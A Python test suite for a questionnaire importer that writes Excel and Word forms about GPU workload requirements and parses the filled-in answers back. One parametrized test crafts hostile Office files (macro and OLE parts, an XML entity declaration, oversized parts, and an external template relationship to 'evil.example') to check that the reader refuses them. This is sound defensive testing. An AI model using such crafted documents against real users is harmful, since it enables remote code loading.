"""The questionnaire: a form goes out, comes back filled in, and every answer is either taken over or told; nothing hostile is opened."""

import datetime
import shutil
import zipfile

import docx
import msgspec
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.engine import importing, intake
from app.engine.errors import EngineError
from app.engine.messages import render
from app.engine.model.projects import Project
from app.engine.model.requirements import Requirement
from app.engine.model.workloads import Workload
from app.engine.questionnaire import QUESTIONS, applied, is_questionnaire, read_questionnaire, write_questionnaire
from app.engine.questionnaire.questions import questions
from app.engine.workload import KEYS, kind_of, value_of

GOOD = {
    "requirement.customer": ("江南某某大学 <A&B>", "江南某某大学 <A&B>"),
    "requirement.scale_cards": ("64", 64),
    "requirement.deliver_by": ("2026年12月31日", datetime.date(2026, 12, 31)),
    "requirement.work": ("300e9 tokens", "300e9 tokens"),
    "requirement.budget": ("300 万", 3e6),
    "requirement.domestic_only": ("是", True),
    "requirement.utilisation": ("80%", 0.8),
    "workload.name": ("=SUM(A1)", "=SUM(A1)"),
    "workload.task": ("预训练", "pretrain"),
    "workload.precision": ("BFloat16", "bf16"),
    "workload.optimised": ("no", False),
    "model.parameters": ("13B", 13e9),
    "run.platform": ("A800 80G NVLink", "nvidia-a800-sxm-80gb"),
    "run.gpus": ("8", 8),
    "measured.unit": ("samples/s", "samples/s"),
    "measured.speed": ("4.1", 4.1),
}


@pytest.fixture(scope="module", params=["zh.xlsx", "en.xlsx", "zh.docx", "en.docx"])
def form(request, tmp_path_factory):
    lang, _, suffix = request.param.partition(".")
    path = tmp_path_factory.mktemp(lang) / f"form.{suffix}"
    write_questionnaire(path, lang)
    return path


def fill(form, folder, answers):
    """Write answers into a copy of a form, as a customer does."""
    path = folder / f"filled{form.suffix}"
    if form.suffix == ".xlsx":
        book = openpyxl.load_workbook(form)
        for row in book.active.iter_rows():
            if row[4].value in answers:
                row[1].value = answers[row[4].value]
                row[1].data_type = "s"
        book.save(path)
        return path
    document = docx.Document(form)
    for table in document.tables:
        for row in table._tbl.tr_lst:
            key = docx.table._Cell(row.tc_lst[2], table).text.split("\n")[-1]
            if key in answers:
                cell = row.tc_lst[1]
                for chooser in cell.findall(docx.oxml.ns.qn("w:sdt")):
                    cell.remove(chooser)
                docx.table._Cell(cell, table).text = answers[key]
    document.save(path)
    return path


def test_every_question_is_a_key_with_words(form):
    assert len({key for _, key in QUESTIONS}) == len(QUESTIONS) > 50 and {key for _, key in QUESTIONS} <= set(KEYS)
    for lang in ("zh", "en"):
        assert all(
            one.text and one.hint and "questionnaire." not in one.hint and "page_requirement" not in one.text for one in questions(lang)
        )
    assert is_questionnaire(form) and intake.purpose_of(form) == "questionnaire"
    filled = read_questionnaire(form)
    assert not filled.answers and filled.blank == len(QUESTIONS)  # an invitation to choose is no answer


def test_what_is_filled_in_comes_back(form, tmp_path):
    path = fill(form, tmp_path, {key: text for key, (text, _) in GOOD.items()})
    assert intake.purpose_of(path) == "questionnaire"
    filled = read_questionnaire(path)
    assert not filled.faults
    assert {one.key: one.value for one in filled.understood} == {key: value for key, (_, value) in GOOD.items()}
    workload, requirement, replaced = applied(None, Requirement(), filled)
    assert {key: value_of(workload, requirement, key) for key in GOOD} == {key: value for key, (_, value) in GOOD.items()}
    assert not replaced
    alone = read_questionnaire(fill(form, tmp_path, {"measured.unit": "samples/s"}))
    assert len(applied(None, Requirement(), alone)[2]) == 1  # a unit without a speed is not lost in silence


def test_what_is_not_understood_is_told_and_not_taken(form, tmp_path):
    bad = {
        "requirement.scale_cards": "很多", "requirement.deliver_by": "明年", "workload.task": "画画", "requirement.domestic_only": "也许",
        "run.platform": "显卡9000", "requirement.linearity": "180%", "requirement.customer": "甲",
    }  # fmt: skip
    filled = read_questionnaire(fill(form, tmp_path, bad))
    assert {one.key for one in filled.faults} == set(bad) - {"requirement.customer"}
    assert all(one.place and one.text and render(one.fault, "zh") for one in filled.faults)


def test_dropped_on_a_project_it_says_what_it_wrote_over(form, tmp_path):
    path = fill(form, tmp_path, {"requirement.customer": "乙公司", "requirement.scale_cards": "64", "run.gpus": "多", "run.nodes": "2"})
    before = Project(requirement=Requirement(customer="甲公司", budget=1.0), workload=Workload("W", "lora"))
    outcome = importing.take_in(before, intake.sort_files([path]), importing.Answers(), lambda *_: pytest.fail("no trace"))
    made = outcome.project
    assert made.requirement.customer == "乙公司" and made.requirement.scale_cards == 64 and made.requirement.budget == 1.0
    assert made.workload is not None and made.workload.run.nodes == 2 and made.workload.task == "lora" and made.workload.name == "W"
    told = render(outcome.told, "zh")
    assert "甲公司 → 乙公司" in told and "规模" in told
    assert (
        len(outcome.problems) == 1
        and "多" in render(outcome.problems[0].message, "zh")
        and "卡数" in render(outcome.problems[0].message, "zh")
    )
    assert before.requirement.customer == "甲公司"  # the step can be undone


def test_a_share_that_may_be_per_cent_is_asked(tmp_path):
    write_questionnaire(tmp_path / "a.xlsx", "zh")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    for row in book.active.iter_rows():
        if row[4].value == "requirement.utilisation":
            row[1].value = 0.8
        if row[4].value == "requirement.deliver_by":
            row[1].value = datetime.datetime(2026, 12, 31)
    book.save(tmp_path / "b.xlsx")
    filled = read_questionnaire(tmp_path / "b.xlsx")
    assert [one.key for one in filled.faults] == ["requirement.utilisation"]
    assert [one.value for one in filled.understood] == [datetime.date(2026, 12, 31)]


def with_part(form, path, name, data, *, instead=False):
    with zipfile.ZipFile(form) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if not (instead and entry.filename == name):
                new.writestr(entry.filename, old.read(entry))
        new.writestr(name, data)
    return path


OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("word/vbaProject.bin", b"macro", "active_content"),
        ("xl/vbaProject.bin", b"macro", "active_content"),
        ("word/embeddings/oleObject1.bin", b"x", "active_content"),
        ("word/extra.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "active_content"),
        ("word/_rels/settings.xml.rels", OUTSIDE.encode(), "outside"),
        ("word/big.xml", b"a" * (17 * 2**20), "too_large"),
        ("word/huge.bin", b"\0" * (65 * 2**20), "too_large"),
    ],
)
def test_hostile_forms_are_refused(form, tmp_path, name, data, code):
    path = with_part(form, tmp_path / f"evil{form.suffix}", name, data)
    with pytest.raises(EngineError) as caught:
        read_questionnaire(path)
    assert caught.value.message.code == f"questionnaire.{code}"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_a_form_that_is_cut_off_is_an_error_of_ours(form, tmp_path, share):
    path = tmp_path / f"cut{form.suffix}"
    whole = form.read_bytes()
    path.write_bytes(whole[: int(len(whole) * share)])
    assert not is_questionnaire(path)
    with pytest.raises(EngineError):
        read_questionnaire(path)


def test_only_forms_are_taken_for_forms(tmp_path):
    plain = docx.Document()
    plain.add_table(2, 3)
    plain.save(tmp_path / "plain.docx")
    assert not is_questionnaire(tmp_path / "plain.docx")
    with pytest.raises(EngineError):
        write_questionnaire(tmp_path / "a.pdf", "zh")


WORDS = st.text(st.one_of(st.characters(exclude_categories=("Cs", "Cc")), st.sampled_from("=+-@<>&\"' \t")), max_size=30)


@settings(max_examples=40, deadline=None)
@given(
    answers=st.dictionaries(st.sampled_from([key for _, key in QUESTIONS]), WORDS, max_size=12), suffix=st.sampled_from([".xlsx", ".docx"])
)
def test_every_answer_is_taken_or_told(tmp_path_factory, answers, suffix):
    folder = tmp_path_factory.mktemp("form")
    write_questionnaire(folder / f"a{suffix}", "zh")
    answers = {key: text for key, text in answers.items() if text.strip() and all(letter.isprintable() for letter in text)}
    filled = read_questionnaire(fill(folder / f"a{suffix}", folder, answers))
    assert {one.key for one in filled.answers} == set(answers)
    texts = {
        one.key: one.value
        for one in filled.understood
        if kind_of(one.key) == "text" and one.key not in ("run.platform", "workload.precision")
    }
    assert texts == {key: answers[key].strip() for key in texts}
    workload, requirement, _ = applied(Workload("W", "pretrain"), Requirement(), filled)
    assert msgspec.json.encode((workload, requirement))
    shutil.rmtree(folder)
